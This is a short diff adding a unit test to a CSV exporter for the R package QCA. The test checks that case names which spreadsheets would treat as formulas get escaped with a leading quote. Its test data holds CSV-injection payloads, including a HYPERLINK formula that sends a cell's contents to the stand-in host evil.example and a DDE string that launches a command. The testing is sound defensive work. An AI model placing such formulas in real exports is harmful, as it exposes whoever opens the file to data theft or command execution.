@@ -71,6 +71,13 @@ describe('CSV for the R package QCA', () => {
     );
   });
 
+  it("writes a case's name that a spreadsheet would compute as text (review-hostile-1207 #5)", () => {
+    const names = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "@SUM(1+1)*cmd|' /C calc'!A0", '+1+2', '-3+4'];
+    const out = qcaCsv({ ...data, cases: names.map((label, i) => ({ id: `c${i}`, label, conditions: [1, 0, 1], outcome: 1 })) });
+    expect(out.rowNames).toEqual(names.map((name) => `'${name}`));
+    expect(out.csv.split('\n').slice(1, -1).map((line) => line[1])).toEqual(["'", "'", "'", "'"]);
+  });
+
   it('refuses data the analysis would refuse', () => {
     expect(() => qcaCsv({ ...data, conditions: [] })).toThrow(/at least one condition/);
   });
